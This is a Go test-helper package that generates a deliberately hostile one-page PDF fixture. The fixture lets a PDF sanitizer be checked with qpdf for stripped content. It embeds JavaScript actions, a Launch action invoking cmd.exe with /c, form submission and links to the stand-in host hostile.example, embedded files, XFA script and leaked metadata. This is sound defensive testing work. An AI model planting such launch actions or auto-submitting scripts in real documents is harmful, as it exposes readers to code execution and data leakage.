// Package hostilepdf makes, for tests, a one-page PDF that carries
// everything an evidence packet must not take from its sources (scripts,
// launch, URI and remote actions, embedded files, live form fields, media,
// metadata, private application data, file names) and checks a PDF for any
// of it with an outside reader (qpdf), never with our own parser.
package hostilepdf

import (
	"bytes"
	"fmt"
	"strings"
)

// What the hostile PDF carries, for the checks to look for.
const (
	// Secret stands for a source's file name and author: it is in the
	// document information, the XMP packets, the file specifications, the
	// piece info and an OPI proxy's file name.
	Secret = "SOURCE-SECRET-FILE-NAME"
	// Host is the host of every URL the PDF points at.
	Host = "hostile.example"
	// Script is in every piece of JavaScript.
	Script = "app.alert"
	// Payload is the content of the embedded files.
	Payload = "EMBEDDED-PAYLOAD-BYTES"
	// XMP is in every XMP metadata packet.
	XMP = "x:xmpmeta"

	// FieldValue is the filled text field's value, drawn by its appearance.
	FieldValue = "Hostile Field Value 123"
	// Checked and Unchecked are drawn by the check box's two appearance
	// states (as text, so that a text extractor can tell which was drawn);
	// the box is checked.
	Checked   = "CheckboxStateOn"
	Unchecked = "CheckboxStateOff"
	// PageText and FormText are the page's own text and the text of a form
	// XObject it draws.
	PageText = "Hostile source page"
	FormText = "Smuggled form text"
)

// PDF returns the hostile document. Its one Letter page has text, an image,
// a form XObject, a filled text field, a checked check box, Launch, URI and
// GoToR links, file attachment, rich media, sound, movie and screen
// annotations, open and close actions, XMP and piece info; its catalog has
// document JavaScript, an open action, embedded files, an AcroForm with
// XFA, XMP, piece info and a URI base; its information names the file.
// Beyond what a viewer acts on, it hides what a copier of the page's
// content and resources would reach: an action, a file specification with
// an embedded file and XMP in a marked-content property list; OPI proxy
// and reference-XObject file names, XMP and piece info in the XObjects'
// dictionaries; an image whose data is to be fetched from a URL.
func PDF() []byte {
	var b builder
	url := "(http://" + Host + "/"
	js := func(where string) string {
		return "<</Type/Action/S/JavaScript/JS(" + Script + "('" + where + "'))>>"
	}
	helv := "5 0 R"

	b.obj(1, "<</Type/Catalog/Pages 2 0 R/Names<</JavaScript 33 0 R/EmbeddedFiles 34 0 R>>"+
		"/OpenAction 11 0 R/AA<</WC "+js("will-close")+">>/AcroForm 26 0 R/Metadata 8 0 R"+
		"/URI<</Base"+url+"base/)>>/PieceInfo 35 0 R>>")
	b.obj(2, "<</Type/Pages/Kids[3 0 R]/Count 1>>")
	b.obj(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"+
		"/Resources<</Font<</F1 "+helv+">>/XObject<</Im1 6 0 R/Im2 42 0 R/Fm1 40 0 R>>"+
		"/Properties<</MC0<</Action 10 0 R/Attached 17 0 R/Metadata 9 0 R>>>>>>"+
		"/Annots[14 0 R 15 0 R 16 0 R 19 0 R 21 0 R 23 0 R 27 0 R 28 0 R 30 0 R 31 0 R]"+
		"/AA<</O 13 0 R/C "+js("page-close")+">>/Metadata 9 0 R/PieceInfo 35 0 R"+
		"/LastModified(D:20200101000000Z)>>")
	b.stream(4, "", "BT /F1 18 Tf 72 720 Td ("+PageText+") Tj ET\n"+
		"q 40 0 0 40 72 640 cm /Im1 Do Q q 40 0 0 40 122 640 cm /Im2 Do Q\n"+
		"/Span /MC0 BDC q 1 0 0 1 72 300 cm /Fm1 Do Q EMC\n")
	b.obj(5, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>")
	b.stream(6, "/Type/XObject/Subtype/Image/Width 2/Height 2/ColorSpace/DeviceGray/BitsPerComponent 8"+
		"/Metadata 7 0 R/OPI<</1.3<</Type/OPI/Version 1.3/F("+Secret+"-image.tif)/Size[2 2]"+
		"/CropRect[0 0 2 2]/Position[0 0 0 2 2 2 2 0]>>>>", "\x00\x80\x80\x00")
	b.stream(7, "/Type/Metadata/Subtype/XML", xmp("image"))
	b.stream(8, "/Type/Metadata/Subtype/XML", xmp("catalog"))
	b.stream(9, "/Type/Metadata/Subtype/XML", xmp("page"))
	b.obj(10, js("named"))
	b.obj(11, "<</Type/Action/S/JavaScript/JS 12 0 R/Next<</S/URI/URI"+url+"open)>>>>")
	b.stream(12, "", Script+"('open'); this.submitForm('http://"+Host+"/submit');")
	b.obj(13, js("page-open"))
	link := func(y int) string {
		return fmt.Sprintf("/Type/Annot/Subtype/Link/Rect[72 %d 300 %d]/Border[0 0 0]", y, y+14)
	}
	b.obj(14, "<<"+link(200)+"/A<</S/Launch/F("+Secret+".exe)/Win<</F(cmd.exe)/P(/c "+Secret+")>>/NewWindow true>>>>")
	b.obj(15, "<<"+link(180)+"/A<</S/URI/URI"+url+"track)>>/AP<</N 20 0 R>>>>")
	b.obj(16, "<<"+link(160)+"/A<</S/GoToR/F("+Secret+"-other.pdf)/D[0/Fit]>>>>")
	b.obj(17, "<</Type/Filespec/F("+Secret+".docx)/UF("+Secret+".docx)/EF<</F 18 0 R>>/Desc("+Secret+")>>")
	b.stream(18, "/Type/EmbeddedFile/Subtype/application#2Foctet-stream", Payload)
	b.obj(19, "<</Type/Annot/Subtype/FileAttachment/Rect[500 700 510 720]/FS 17 0 R/Name/PushPin"+
		"/Contents("+Secret+")/F 4/AP<</N 20 0 R>>>>")
	b.stream(20, "/Type/XObject/Subtype/Form/BBox[0 0 10 20]", "0 0 10 20 re f")
	b.obj(21, "<</Type/Annot/Subtype/Widget/FT/Tx/T(applicant)/TU("+Secret+")/V("+FieldValue+")"+
		"/Rect[72 600 372 624]/F 4/P 3 0 R/DA(/Helv 12 Tf 0 g)/AP<</N 22 0 R>>"+
		"/AA<</K "+js("keystroke")+"/Fo 10 0 R>>/A<</S/SubmitForm/F<</FS/URL/F"+url+"submit)>>>>>>")
	b.stream(22, "/Type/XObject/Subtype/Form/BBox[0 0 300 24]/Resources<</Font<</Helv "+helv+">>>>",
		"/Tx BMC BT /Helv 12 Tf 2 7 Td ("+FieldValue+") Tj ET EMC")
	b.obj(23, "<</Type/Annot/Subtype/Widget/FT/Btn/T(agree)/V/Yes/AS/Yes/Rect[72 560 222 580]/F 4/P 3 0 R"+
		"/AP<</N<</Yes 24 0 R/Off 25 0 R>>>>/A "+js("checked")+">>")
	b.stream(24, "/Type/XObject/Subtype/Form/BBox[0 0 150 20]/Resources<</Font<</Helv "+helv+">>>>",
		"BT /Helv 12 Tf 2 5 Td ("+Checked+") Tj ET")
	b.stream(25, "/Type/XObject/Subtype/Form/BBox[0 0 150 20]/Resources<</Font<</Helv "+helv+">>>>",
		"BT /Helv 12 Tf 2 5 Td ("+Unchecked+") Tj ET")
	b.obj(26, "<</Fields[21 0 R 23 0 R]/DR<</Font<</Helv "+helv+">>>>/DA(/Helv 0 Tf 0 g)/XFA 36 0 R>>")
	b.obj(27, "<</Type/Annot/Subtype/RichMedia/Rect[400 400 500 500]/RichMediaContent<</Assets<</Names[("+
		Secret+".swf) 17 0 R]>>/Configurations[]>>/RichMediaSettings<</Activation<</Condition/PO>>>>>>")
	b.obj(28, "<</Type/Annot/Subtype/Sound/Rect[400 300 420 320]/Sound 29 0 R/Contents("+Secret+")>>")
	b.stream(29, "/Type/Sound/R 8000/C 1/B 8/E/Raw", "\x80\x80\x80\x80")
	b.obj(30, "<</Type/Annot/Subtype/Movie/Rect[400 200 500 280]/Movie<</F("+Secret+".mov)>>/A true>>")
	b.obj(31, "<</Type/Annot/Subtype/Screen/Rect[400 100 500 180]/A<</S/Rendition/OP 0"+
		"/JS("+Script+"('rendition'))>>/AA<</PO "+js("screen")+">>>>")
	b.obj(32, "<</Title("+Secret+".pdf)/Author("+Secret+" author)/Subject("+Secret+")/Keywords("+Secret+")"+
		"/Creator("+Secret+" editor)/Producer("+Secret+" producer)/CreationDate(D:20200101000000Z)>>")
	b.obj(33, "<</Names[(init) 10 0 R]>>")
	b.obj(34, "<</Names[("+Secret+".docx) 17 0 R]>>")
	b.obj(35, "<</HostileEditor<</LastModified(D:20200101000000Z)/Private("+Secret+" private data)>>>>")
	b.stream(36, "", "<xdp:xdp><script>"+Script+"('xfa')</script></xdp:xdp>")
	b.stream(40, "/Type/XObject/Subtype/Form/BBox[0 0 300 40]/Resources<</Font<</F1 "+helv+">>>>"+
		"/Metadata 41 0 R/PieceInfo 35 0 R/OPI<</1.3<</Type/OPI/Version 1.3/F("+Secret+"-proxy.tif)>>>>"+
		"/Ref<</F<</FS/URL/F"+url+"ref.pdf)>>/Page 0>>",
		"BT /F1 12 Tf 0 10 Td ("+FormText+") Tj ET")
	b.stream(41, "/Type/Metadata/Subtype/XML", xmp("form"))
	// An image whose data, the dictionary says, is fetched from a URL.
	b.stream(42, "/Type/XObject/Subtype/Image/Width 2/Height 2/ColorSpace/DeviceGray/BitsPerComponent 8"+
		"/F"+url+"external.raw)/FFilter/FlateDecode/FDecodeParms<<>>", "\x80\x00\x00\x80")
	return b.finish(1, 32)
}

func xmp(where string) string {
	return `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><` + XMP + ` xmlns:x="adobe:ns:meta/">` +
		`<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description ` +
		`xmlns:dc="http://purl.org/dc/elements/1.1/" dc:source="` + Secret + `.pdf" dc:description="` + where + `"/>` +
		`</rdf:RDF></x:xmpmeta><?xpacket end="w"?>`
}

// builder writes a PDF's objects with a correct cross-reference table.
type builder struct {
	buf     bytes.Buffer
	offsets map[int]int
	max     int
}

func (b *builder) obj(nr int, body string) {
	if b.offsets == nil {
		b.buf.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
		b.offsets = map[int]int{}
	}
	b.offsets[nr] = b.buf.Len()
	b.max = max(b.max, nr)
	fmt.Fprintf(&b.buf, "%d 0 obj\n%s\nendobj\n", nr, body)
}

func (b *builder) stream(nr int, dict, data string) {
	b.obj(nr, fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(data), data))
}

func (b *builder) finish(root, info int) []byte {
	xref := b.buf.Len()
	var x strings.Builder
	fmt.Fprintf(&x, "xref\n0 %d\n0000000000 65535 f\r\n", b.max+1)
	for nr := 1; nr <= b.max; nr++ {
		if off, ok := b.offsets[nr]; ok {
			fmt.Fprintf(&x, "%010d 00000 n\r\n", off)
		} else {
			x.WriteString("0000000000 65535 f\r\n")
		}
	}
	fmt.Fprintf(&x, "trailer\n<</Size %d/Root %d 0 R/Info %d 0 R>>\nstartxref\n%d\n%%%%EOF\n", b.max+1, root, info, xref)
	b.buf.WriteString(x.String())
	return b.buf.Bytes()
}
